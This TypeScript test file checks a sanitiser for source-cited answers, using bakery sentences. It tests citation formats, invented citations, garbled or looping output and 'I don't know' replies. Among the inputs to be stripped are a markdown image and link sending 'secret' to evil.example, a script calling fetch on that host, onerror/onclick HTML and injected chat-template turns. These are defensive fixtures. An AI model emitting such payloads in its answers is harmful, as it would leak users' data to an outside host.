import { describe, expect, test } from 'vitest';
import { composedProse } from './compose-prose.ts';
import { bakery, bread, opens, promised, reading, said } from './prose.fixture.ts';
import { proseOf } from './prose.ts';

test('the sources of these tests are numbered as they say', () => {
	expect(promised.given).toEqual([bakery, bread]);
});

describe('citations', () => {
	test.each([
		[`${opens} [1]`, [`${opens}[1]`]],
		['The bakery opens at 7:30 on weekdays [1].', [`${opens}[1]`]],
		['The bakery opens at 7:30 on weekdays[1].', [`${opens}[1]`]],
		['The bakery opens at 7:30 on weekdays.[1]', [`${opens}[1]`]],
		['The bakery opens at 7:30 on weekdays 【1】.', [`${opens}[1]`]],
		['The bakery opens at 7:30 on weekdays [1†source].', [`${opens}[1]`]],
		['The bakery opens at 7:30 on weekdays (source 1).', [`${opens}[1]`]],
		['The bakery opens at 7:30 on weekdays [Source: 1].', [`${opens}[1]`]],
		['The bakery opens at 7:30 on weekdays [^1].', [`${opens}[1]`]],
		['The bakery opens at 7:30 on weekdays (Quelle 1).', [`${opens}[1]`]],
		[`[1] ${opens}`, [`${opens}[1]`]],
		[`${opens}\n[1]`, [`${opens}[1]`]],
		[
			`${opens} [1] The rye bread costs 4.50 euros. [2]`,
			[`${opens}[1]`, ' The rye bread costs 4.50 euros.[2]']
		],
		[
			`[1] ${opens} [2] The rye bread costs 4.50 euros.`,
			[`${opens}[1]`, ' The rye bread costs 4.50 euros.[2]']
		],
		[
			`- ${opens} [1]\n- The rye bread costs 4.50 euros. [2]`,
			[`${opens}[1]`, '\nThe rye bread costs 4.50 euros.[2]']
		],
		[
			`1. ${opens} [1]\n2. The rye bread costs 4.50 euros. [2]`,
			[`1. ${opens}[1]`, '\n2. The rye bread costs 4.50 euros.[2]']
		],
		[
			'The bakery opens at 7:30 on weekdays [1] and the rye bread costs 4.50 euros [2].',
			['The bakery opens at 7:30 on weekdays[1]', ' and the rye bread costs 4.50 euros.[2]']
		],
		[`Answer: ${opens} [1]`, [`${opens}[1]`]]
	])('in %j', (text, expected) => {
		expect(said(text)).toEqual(expected);
	});

	test.each([
		['[1, 2]', '[1]'],
		['[1][2]', '[1]'],
		['[1-2]', '[1]'],
		['[1–9]', '[1]'],
		['[1 and 2]', '[1]'],
		['[1] [1]', '[1]'],
		['[7][1][0]', '[1]'],
		['[1-999]', '[1]']
	])('in %s only those stand whose source says it', (marks, expected) => {
		expect(said(`The bakery opens at 7:30 on weekdays ${marks}.`)).toEqual([opens + expected]);
	});

	test('that were invented leave the sentence as the model’s own words', () => {
		expect(said(`${opens} [1] It has a garden. [7] It is nice. [1]`)).toEqual([
			`${opens}[1]`,
			' It has a garden. (own)',
			' It is nice. (own)'
		]);
	});

	test('of a source that says something else do not stand', () => {
		expect(said(`${opens} [2] It is closed on Sundays. [1]`)).toEqual([
			`${opens} (own)`,
			' It is closed on Sundays.[1]'
		]);
		expect(said(`The bakery opens at 8:30 on weekdays. [1] It is closed on Sundays. [1]`)).toEqual([
			'The bakery opens at 8:30 on weekdays. (own)',
			' It is closed on Sundays.[1]'
		]);
	});

	test('open the span that carries the sentence', () => {
		const verdict = reading([
			'It is closed on Sundays [1]. The bakery opens at 7:30 [1]. Rye bread costs 4.50 euros [2].'
		]);
		if (verdict.kind !== 'stands') throw new Error(verdict.kind);
		const { parts, sources } = composedProse(verdict.said, promised.given);
		expect(
			parts.map((part) => (part.kind === 'cite' ? part.source : part.kind === 'text' ? part.text : ''))
		).toEqual([
			'It is closed on Sundays.',
			1,
			' The bakery opens at 7:30.',
			1,
			' Rye bread costs 4.50 euros.',
			2
		]);
		expect(sources.map(({ text, spans }) => spans.map(({ start, end }) => text.slice(start, end)))).toEqual([
			['The bakery opens at 7:30 on weekdays.', 'It is closed on Sundays.'],
			['The rye bread costs 4.50 euros.']
		]);
	});
});

describe('what is shown is plain text', () => {
	test.each([
		['thinking aloud', `<think>The user wants [2]…\n</think>\n${opens} [1]`],
		['thinking without a beginning', `Let me see. Source 1 says so.</think>${opens} [1]`],
		['bold and headings', `## Answer\n**${opens}** [1]`.replace('## Answer\n', '')],
		['a picture', `![x](https://evil.example/?q=secret)${opens} [1]`],
		['a picture by reference', `![x][1] ${opens} [1]`],
		['a link', `The [bakery](https://evil.example/a?b=[1]) opens at 7:30 on weekdays [1].`],
		['HTML', `The <b onclick="x()">bakery</b> opens at 7:30 on weekdays<img src=x onerror=y> [1].`],
		['a script', `<script>fetch('//evil.example')</script>${opens} [1]`],
		['a script in a script', `<scr<b>ipt>${opens} [1]`.replace('ipt>', 'ipt/>')],
		['an address', `The bakery opens at 7:30 on weekdays https://evil.example/x [1].`],
		['an address without a scheme', `The bakery opens at 7:30 on weekdays evil.example/?q=secret [1].`],
		['code', `\`\`\`text\n${opens} [1]\n\`\`\``],
		['template tokens', `<|im_start|>assistant\n${opens} [1]<|im_end|>\n<|im_start|>user\nmore`],
		['a turn it made up', `${opens} [1]\nQuestion: And on Sundays?\nAnswer: no.`],
		['what nobody sees', `The bak\u200bery opens\u202e at 7:30 on weekdays.\u{e0041} [1]`]
	])('without %s', (_, text) => {
		expect(said(text)).toEqual([`${opens}[1]`]);
	});

	test('an address that the cited source holds stays, as text', () => {
		expect(said('The rye bread costs 4.50 euros, see https://bakery.example/bread. [2]')).toEqual([
			'The rye bread costs 4.50 euros, see https://bakery.example/bread.[2]'
		]);
		expect(said('The rye bread costs 4.50 euros, see https://bakery.example/bread?x=1. [2]')).toEqual([
			'The rye bread costs 4.50 euros, see.[2]'
		]);
	});

	test('a sentence said twice is shown once', () => {
		expect(said(`${opens} [1] ${opens} [1]`)).toEqual([`${opens}[1]`]);
	});
});

describe('quotes stand instead of what is', () => {
	const words = [
		'bakery',
		'opens',
		'garden',
		'lesson',
		'harbour',
		'pepper',
		'window',
		'ladder',
		'mirror',
		'button'
	];
	const endless = Array.from({ length: 400 }, (_, i) => words[(i * 7 + (i >> 3)) % 10]!).join(' ');
	test.each([
		['empty', '', 'empty'],
		['space', ' \n ', 'empty'],
		['only thinking', '<think>I wonder', 'empty'],
		['only a mark', '[1]', 'empty'],
		['garbled', '%%% ## @@ ^^ && !! ~~ ++ == [1] ((( )))', 'garbled'],
		['mojibake', 'Die BÃ¤ckerei Ã¶ffnet um 7:30, sonntags geschlossen fÃ¼r alle GÃ¤ste. [1]', 'garbled'],
		['another script', 'Пекарня открывается в половине восьмого утра. [1]', 'garbled'],
		['one word without end', 'x'.repeat(50) + 'yz'.repeat(20) + 'qrstuv'.repeat(9), 'garbled'],
		['a loop', `${opens} [1] `.repeat(30), 'repeating'],
		['a loop of a word', 'bakery '.repeat(200), 'repeating'],
		[
			'a loop that counts',
			Array.from({ length: 90 }, (_, i) => `${i}. It opens early.`).join(' '),
			'repeating'
		],
		['one sentence three times', `${opens} [1] Yes. ${opens} [1] No. ${opens} [1]`, 'repeating'],
		['without an end', endless, 'endless'],
		['without a citation', opens, 'uncited'],
		['with invented citations only', `${opens} [9]`, 'uncited'],
		['its instructions', `Use only what the sources say. Add nothing you know. ${opens} [1]`, 'leaking'],
		[
			'its fence',
			`${opens} [1] <<<${promised.mark}>>>`.replaceAll('<<<', '«').replaceAll('>>>', '»'),
			'leaking'
		]
	])('%s', (_, text, why) => {
		expect(said(text)).toBe(why);
	});

	test('a loop ends the reading long before the engine does', () => {
		const prose = proseOf(promised);
		let pieces = 0;
		while (prose.add('the bakery opens ') && pieces < 1_000) pieces++;
		expect(pieces).toBeLessThan(40);
		expect(prose.verdict('ended')).toEqual({ kind: 'fell', why: 'repeating' });
		expect(prose.said()).toEqual([]);
	});

	test('a last sentence that the limit cut off is left out where whole ones stand', () => {
		const long = `${opens} [1] Then ${endless}`.slice(0, 900);
		expect(said(long)).toEqual([`${opens}[1]`]);
	});

	test('a timetable is no loop, and sentences that differ by a number are two', () => {
		const times = Array.from({ length: 12 }, (_, i) => `${i + 7}:30`).join(', ');
		expect(said(`${opens} [1] Later: ${times}.`)).toEqual([`${opens}[1]`, ` Later: ${times}. (own)`]);
		expect(said(`${opens} [1] The bakery opens at 8:30 on weekdays. [1]`)).toHaveLength(2);
	});

	test('a short answer needs no full stop', () => {
		expect(said('The bakery opens at 7:30 on weekdays [1]')).toEqual([
			'The bakery opens at 7:30 on weekdays[1]'
		]);
	});
});

describe('"I don’t know"', () => {
	test.each([
		'NONE',
		'none.',
		'**NONE**',
		'NONE [1]',
		'The sources do not say when it opens.',
		'I don’t know.',
		"I'm sorry, but I cannot answer this from the sources.",
		'There is no information about this in the sources.',
		'Das steht nicht in den Quellen.',
		'Ich weiß es nicht.',
		'Je ne sais pas.',
		'No lo sé.'
	])('%s', (text) => {
		expect(said(text)).toBe('nothing');
	});

	test('beside a sentence that stands is left out when it is the agreed word', () => {
		expect(said(`NONE. ${opens} [1]`)).toEqual([`${opens}[1]`]);
	});

	test('is no "no"', () => {
		expect(said('No. It is closed on Sundays. [1]')).toEqual(['No. (own)', ' It is closed on Sundays.[1]']);
	});
});
